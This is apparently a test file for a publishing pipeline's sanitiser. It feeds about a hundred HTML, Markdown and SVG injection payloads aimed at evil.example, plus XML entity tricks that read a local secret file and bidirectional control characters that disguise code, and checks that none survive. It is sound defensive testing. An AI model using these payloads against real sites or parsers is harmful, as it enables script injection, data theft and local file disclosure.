"""What HTML and SVG may do to a reader, or fetch, does not come out of a post."""

import base64
import gzip
import io
import re
from pathlib import Path

import pytest
from lxml import etree, html
from PIL import Image

from pipeline.normalise.media.prepare_picture import clean_drawing
from pipeline.normalise.media.rasters import UnreadablePictureError
from pipeline.press.images.pixels import render_pages
from pipeline.press.sheets import Copy
from pipeline.press.typesetting.typeset import typeset
from tests.hostile.making import SECRET, body, normalised, picture, published, rules
from tests.hostile.reading import words

EVIL = "evil.example"
_SVG = "xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"

IN_HTML = (
    f"<script>fetch('//{EVIL}')</script>",
    f"<script src=//{EVIL}></script>",
    f"<scr<script>ipt>alert('{EVIL}')</script>",
    f"<img src=x onerror=\"location='//{EVIL}'\">",
    f"<a href=\"javascript:location='//{EVIL}'\">mot</a>",
    f"<a href='java\tscript:{EVIL}'>mot</a>",
    f"<a href='&#106;avascript:{EVIL}'>mot</a>",
    f"<a href='java&#10;script&colon;{EVIL}'>mot</a>",
    f"<a href='\x01javascript:{EVIL}'>mot</a>",
    f"<a href='vbscript:{EVIL}'>mot</a>",
    f"<a href='data:text/html,{EVIL}'>mot</a>",
    f"[mot](javascript:{EVIL})",
    f"[mot](JaVaScRiPt:{EVIL})",
    f"[mot](<java\tscript:{EVIL}>)",
    f"[mot](data:text/html;base64,{EVIL})",
    f"[mot]: javascript:{EVIL}\n\n[mot]",
    f"<javascript:{EVIL}>",
    f"![mot](javascript:{EVIL})",
    f"![mot](data:text/html,{EVIL})",
    f"![mot](data:image/svg+xml,<svg/onload='{EVIL}'>)",
    f"<base href='//{EVIL}/'>mot",
    f"<meta http-equiv=refresh content='0;url=//{EVIL}'>mot",
    f"<link rel=stylesheet href=//{EVIL}>mot",
    f"<style>@import '//{EVIL}';</style>mot",
    f"<p style=\"background:url('//{EVIL}')\">mot</p>",
    f"<p style='-moz-binding:url(//{EVIL})'>mot</p>",
    f"<td style='text-align:left;background:image-set(\"//{EVIL}\" 1x)'>mot</td>",
    f"<table><tr><td style='text-align:left;background:u\\72l(//{EVIL})'>mot</td></tr></table>",
    f"<img src=a.png srcset='//{EVIL} 2x' alt=mot>",
    f"<picture><source srcset='//{EVIL}'><img src=a.png alt=mot></picture>",
    f"<a href=voisin.md ping='//{EVIL}'>mot</a>",
    f"<form action='//{EVIL}'><button formaction='//{EVIL}'>mot</button></form>",
    f"<input type=image src='//{EVIL}' formaction='//{EVIL}'>mot",
    f"<body background='//{EVIL}'>mot",
    f"<table background='//{EVIL}'><tr><td background='//{EVIL}'>mot</td></tr></table>",
    f"<video poster='//{EVIL}'></video>mot",
    f"<math href='//{EVIL}'><maction actiontype='statusline#//{EVIL}'><mi>x</mi></maction></math>",
    f"<math><mi xlink:href='//{EVIL}'>x</mi></math>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror='{EVIL}'></annotation-xml></math>",
    f"<svg onload='{EVIL}'><script>{EVIL}</script></svg>mot",
    f"<svg><foreignObject><img src='//{EVIL}'></foreignObject></svg>mot",
    f"<svg><style><img title='</style><img src=x onerror={EVIL}>'></style></svg>mot",
    f"<noscript><p title='</noscript><img src=x onerror={EVIL}>'></noscript>mot",
    f"<template><img src=x onerror={EVIL}></template>mot",
    f"<math><mtext><table><mglyph><style><img src=x onerror={EVIL}></style></mglyph></table></mtext></math>",
    f"<!--><img src=x onerror={EVIL}>-->mot",
    f"<![CDATA[><img src=x onerror={EVIL}>]]>mot",
    f"<?xml-stylesheet href='//{EVIL}'?>mot",
    f"<!DOCTYPE html [<!ENTITY x SYSTEM '//{EVIL}'>]>mot",
    f"<details ontoggle='{EVIL}' open><summary>mot</summary></details>",
    f"<x onclick='{EVIL}'>mot</x>",
    f"<a target=_blank rel=opener onclick='{EVIL}' href=voisin.md>mot</a>",
    f"mot{{onclick='{EVIL}'}}",
    f"[mot]{{onclick='{EVIL}' style='background:url(//{EVIL})'}}",
    f"::: {{.a onmouseover='{EVIL}'}}\nmot\n:::",
    f"```{{=html}}\n<script>{EVIL}</script>\n```\n\nmot",
    f"`<img src=x onerror={EVIL}>`{{=html}} mot",
    f"```{{.python onclick='{EVIL}' startFrom='\"><script>{EVIL}</script>'}}\nmot\n```",
    f"## mot {{onclick='{EVIL}'}}",
    f"![mot](a.png){{onerror='{EVIL}' srcset='//{EVIL}'}}",
)
_MAY_HOLD = frozenset({"href", "title", "alt", "class", "id", "alttext"})


@pytest.mark.parametrize("markdown", IN_HTML)
def test_no_markup_of_a_post_acts_or_fetches(tmp_path: Path, markdown: str) -> None:
    text = body(tmp_path, f"Avant.\n\n{markdown}\n\nAprès.", {"voisin.md": "Un mot."})
    for element in html.fragment_fromstring(text, create_parent="div").iter():
        assert isinstance(element.tag, str)
        assert element.tag not in set("script style base meta link form object embed iframe svg".split())
        for name, value in element.attrib.items():
            assert not name.startswith("on")
            # A picture of the web is shown from where it is, as the README has it.
            is_remote = element.tag == "img" and name == "src" and value == f"https://{EVIL}"
            assert EVIL not in value or name in _MAY_HOLD or is_remote, f"{name}={value}"
            if name in ("href", "src"):
                scheme = "".join(value.partition(":")[0].split()).lower() if ":" in value else ""
                assert scheme in {"", "http", "https", "mailto", "article", "asset"}, value
    assert "Avant." in text


IN_SVG = (
    f"<script>fetch('//{EVIL}')</script>",
    f"<script xlink:href='//{EVIL}'/>",
    f"<image href='//{EVIL}/a.png'/>",
    f"<image xlink:href='https://{EVIL}/a.png'/>",
    f"<image xlink:href='file:///{EVIL}'/>",
    f"<image href='data:image/svg+xml,{EVIL}'/>",
    f"<image href='data:text/html,{EVIL}'/>",
    f"<image href=' data:image/svg+xml;base64,{EVIL}'/>",
    f"<use href='//{EVIL}#a'/>",
    f"<use xlink:href='{EVIL}.svg#a'/>",
    f"<feImage href='//{EVIL}'/>",
    f"<a href='javascript:{EVIL}'><text>mot</text></a>",
    f"<a href='https://{EVIL}'><text>mot</text></a>",
    f"<a xlink:href='java&#9;script:{EVIL}'><text>mot</text></a>",
    f"<g onload='{EVIL}'/>",
    f"<g oNcLiCk='{EVIL}'/>",
    f"<animate attributeName='href' values='//{EVIL}'/>",
    f"<a><set attributeName='href' to='javascript:{EVIL}'/><text>mot</text></a>",
    f"<animateTransform onbegin='{EVIL}'/>",
    f"<foreignObject><p xmlns='http://www.w3.org/1999/xhtml'>{EVIL}</p></foreignObject>",
    f"<foreignobject><iframe xmlns='http://www.w3.org/1999/xhtml' src='//{EVIL}'/></foreignobject>",
    f"<handler type='text/javascript'>{EVIL}</handler>",
    f"<style>@import url(//{EVIL});</style>",
    f"<style>@im\\70ort '//{EVIL}';</style>",
    f"<style>@font-face{{font-family:a;src:url(//{EVIL})}}</style>",
    f"<style>a{{fill:u\\000072l(//{EVIL})}}</style>",
    f"<style>a{{-moz-binding:url(//{EVIL}#x)}}</style>",
    f"<style>a{{behavior:url(//{EVIL})}}</style>",
    f"<style>a{{background:image-set('//{EVIL}' 1x)}}</style>",
    f"<style>a{{background:url(/**/'//{EVIL}')}}</style>",
    f"<style><![CDATA[@import '//{EVIL}';]]></style>",
    f"<style><!-- @import '//{EVIL}'; --></style>",
    f"<rect style='fill:url(//{EVIL}#a)'/>",
    f"<rect fill='url(//{EVIL}#a)'/>",
    f"<rect filter='url(\"https://{EVIL}#a\")'/>",
    f"<rect mask='url(data:image/svg+xml,{EVIL})'/>",
    f"<rect cursor='url(//{EVIL}),auto'/>",
    f"<rect style='fill:\\75rl(//{EVIL})'/>",
    f"<g xml:base='http://{EVIL}/'/>",
    f"<audio src='//{EVIL}'/>",
    f"<video xmlns='http://www.w3.org/1999/xhtml' src='//{EVIL}'/>",
    f"<metadata><r:RDF xmlns:r='http://www.w3.org/1999/02/22-rdf-syntax-ns#'><x onload='{EVIL}'/></r:RDF></metadata>",
    f"<?xml-stylesheet href='//{EVIL}'?>",
    f"<!-- {EVIL} -->",
    f"<color-profile xlink:href='//{EVIL}'/>",
    f"<cursor xlink:href='//{EVIL}'/>",
    f"<discard href='//{EVIL}'/>",
    f"<mpath href='//{EVIL}'/>",
    f"<textPath href='//{EVIL}'/>",
    f"<linearGradient id='l' href='//{EVIL}'/>",
    f"<image src='//{EVIL}' srcset='//{EVIL} 2x'/>",
    f"<p xmlns='http://www.w3.org/1999/xhtml'><img srcset='//{EVIL}'/></p>",
)


@pytest.mark.parametrize("inner", IN_SVG)
def test_no_drawing_acts_or_fetches(inner: str) -> None:
    drawing = clean_drawing(f"<svg {_SVG} viewBox='0 0 9 9'>{inner}<rect width='1' height='1'/></svg>".encode())
    assert EVIL.encode() not in drawing.data
    assert b"rect" in drawing.data
    etree.fromstring(drawing.data)


def test_no_drawing_reads_another_file(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET, "utf-8")
    outer = tmp_path / "outer.dtd"
    outer.write_text(f"<!ENTITY % f SYSTEM '{secret.as_uri()}'><!ENTITY % g \"<!ENTITY x '%f;'>\">%g;", "utf-8")
    for declaration in (
        f"<!ENTITY x SYSTEM '{secret.as_uri()}'>",
        f"<!ENTITY x SYSTEM '{secret}'>",
        f"<!ENTITY x PUBLIC 'a' '{secret.as_uri()}'>",
        f"<!ENTITY % p SYSTEM '{outer.as_uri()}'> %p;",
        f"<!ENTITY % p \"<!ENTITY x SYSTEM '{secret.as_uri()}'>\"> %p;",
    ):
        text = f"<!DOCTYPE svg [{declaration}]><svg {_SVG}><text>avant&x;après</text></svg>"
        assert SECRET not in _outcome(text.encode())
    for text in (
        f"<!DOCTYPE svg SYSTEM '{outer.as_uri()}'><svg {_SVG}><text>&x;</text></svg>",
        f"<svg {_SVG} xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='{secret.as_uri()}' parse='text'/></svg>",
        f"<?xml-stylesheet href='{secret.as_uri()}'?><svg {_SVG}/>",
    ):
        assert SECRET not in _outcome(text.encode())


@pytest.mark.parametrize("encoding", ["utf-16", "utf-7", "utf-32", "ebcdic-cp-us", "iso-8859-1"])
def test_no_encoding_hides_a_script(encoding: str) -> None:
    text = f"<?xml version='1.0' encoding='{encoding}'?><svg {_SVG}><script>{EVIL}</script></svg>"
    assert EVIL not in _outcome(text.encode("cp500" if encoding == "ebcdic-cp-us" else encoding))


def _outcome(svg: bytes) -> str:
    """Return the drawing, or the reason why there is none."""
    try:
        return clean_drawing(svg).data.decode()
    except UnreadablePictureError as error:
        return str(error)


def test_what_links_lead_to_is_harmless_too(tmp_path: Path) -> None:
    svg = f"<svg {_SVG} onload='{EVIL}'><script>{EVIL}</script></svg>".encode()
    files = published(
        tmp_path, {"essai.md": "[a](a.svg) [b](b.svgz) ![c](a.svg)", "a.svg": svg, "b.svgz": gzip.compress(svg)}, "site"
    )
    assert sum(name.endswith((".svg", ".svgz")) for name in files) >= 3  # and the icon
    for name, data in files.items():
        if name.endswith((".svg", ".svgz")):
            assert EVIL.encode() not in (gzip.decompress(data) if name.endswith("z") else data)


ENTITIES = {
    "in an attribute": ("<!DOCTYPE svg [<!ENTITY x 'teal'>]>", "<text fill='&x;'>mot</text>", "teal"),
    "in the words": ("<!DOCTYPE svg [<!ENTITY x 'bleu'>]>", "<text>mot &x;</text>", "mot bleu"),
    "of another file": ("<!DOCTYPE svg SYSTEM 'a.dtd'>", "<text fill='&x;'>mot&nbsp;</text>", "mot"),
    "that is a script": ("<!DOCTYPE svg [<!ENTITY x '<script>x()</script>'>]>", "<g>&x;<text>mot</text></g>", "mot"),
    "that acts": ("<!DOCTYPE svg [<!ENTITY x 'javascript:x()'>]>", "<a href='&x;'><text>mot</text></a>", "mot"),
}


@pytest.mark.parametrize("case", ENTITIES)
def test_a_drawing_with_entities_is_well_formed_without_its_dtd(case: str) -> None:
    dtd, inner, kept = ENTITIES[case]
    data = clean_drawing(f"{dtd}<svg xmlns='http://www.w3.org/2000/svg'>{inner}</svg>".encode()).data
    etree.fromstring(data)
    assert kept.encode() in data
    assert not re.search(rb"&(?!amp;|lt;|gt;)|script|DOCTYPE", data)


SHOWING = (
    "<image/>",
    "<image href=''/>",
    "<image href='photo.png' width='9' height='9'/>",
    "<image xlink:href='photo.png' width='9' height='9'/>",
    "<image xlink:href='data:image/svg+xml;base64,PHN2Zy8+' width='9' height='9'/>",
    "<image href='data:image/png;base64,bm9u' width='9' height='9'/>",
    "<use/>",
    "<use xlink:href='autre.svg#a'/>",
    "<use href='#nulle-part'/>",
    "<filter id='f'><feImage href='photo.png'/></filter><rect width='9' height='9' filter='url(#f)'/>",
    "<text><textPath xlink:href='autre.svg#a'>mot</textPath></text>",
    "<text><tref xlink:href='autre.svg#a'/>mot</text>",
    "<text><tref xlink:href='#nulle-part'/>mot</text>",
    "<text><textPath>mot</textPath></text>",
    "<pattern id='p' href='autre.svg#p'/><linearGradient id='l' xlink:href='a.svg#l'/><rect width='9' height='9' fill='url(#l)'/>",
    "<a xlink:href='javascript:x()'><text>mot</text></a>",
    "<path><animateMotion><mpath/></animateMotion></path>",
)


@pytest.mark.parametrize("inner", SHOWING)
def test_what_lost_its_address_leaves_nothing_that_the_press_stumbles_over(inner: str) -> None:
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='20' height='20'>{inner}</svg>"
    drawn = clean_drawing(svg.encode())
    page = '<!DOCTYPE html><html lang="fr"><title>T</title><body><img src="asset:a" alt="a"></body></html>'
    assert typeset(Copy(page, (), {"asset:a": drawn.data})).warnings == ()
    assert ("photo.png" in drawn.lost) == ("photo.png" in inner)


def test_a_drawing_keeps_the_pixels_that_it_holds_without_where_they_were_taken() -> None:
    exif = Image.Exif()
    exif[0x010E] = "secret"
    photograph = io.BytesIO()
    Image.new("RGB", (8, 4), "teal").save(photograph, "JPEG", exif=exif.tobytes())
    address = f"data:image/jpeg;base64,{base64.b64encode(photograph.getvalue()).decode()}"
    svg = f"<svg xmlns='http://www.w3.org/2000/svg' width='20' height='20'><image href='{address}' width='20' height='20'/></svg>"
    data = clean_drawing(svg.encode()).data
    held = base64.b64decode(re.findall(rb"base64,([^\"]+)", data)[0])
    assert Image.open(io.BytesIO(held)).size == (8, 4)
    assert b"secret" in photograph.getvalue()
    assert b"secret" not in held
    page = '<!DOCTYPE html><html lang="fr"><title>T</title><body><img src="asset:a" alt="a"></body></html>'
    sheets = typeset(Copy(page, ("@page {size: 40px} body {margin: 0}",), {"asset:a": data}))
    assert sheets.warnings == ()
    red, green, _ = next(render_pages(sheets.pdf.data, 1)).crop((5, 5, 6, 6)).tobytes()
    assert (red, green) == (0, 128)


def test_what_a_drawing_is_shown_without_is_named(tmp_path: Path) -> None:
    svg = "<svg xmlns='http://www.w3.org/2000/svg'><image href='photo.png'/></svg>"
    collection = normalised(tmp_path, {"essai.md": "![Un dessin](a.svg)", "a.svg": svg})
    (problem,) = (one for one in collection.problems if one.rule == "unreadable-image")
    assert (problem.place, "photo.png" in problem.message) == ("essai.md:1:1", True)


def test_nothing_turns_the_letters_of_a_page(tmp_path: Path) -> None:
    """What is written is what is read, in code above all; where such signs were, is said."""
    turning = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    text = (
        f"---\ntitle: 'Un {turning}titre'\ntags: ['a{turning}b']\ndescription: 'd{turning}e'\n---\n\n"
        f"Un mot{turning}, &#x202e;`c{turning}ode`.\n\n```python\n# {turning}}} if admin\n```\n\n![a{turning}](a.png)\n"
    )
    files: dict[str, str | bytes] = {
        "un.md": text,
        "de\u202eux.md": "Deux.\n",
        "a.png": picture(),
        "collection.yaml": f"title: 'Un{turning}e'\nsubtitle: \"\\u202e\"\n",
    }
    assert "control-character" in rules(normalised(tmp_path / "content", files), "un.md")
    found = words(published(tmp_path, files))
    texts = {name: said for name, said in found.items() if not name.endswith((".woff2", "search/box.js"))}
    assert {name for name, said in texts.items() if set(turning) & set(said)} == set()
    assert any("# } if admin" in said for name, said in found.items() if name.endswith(".md"))
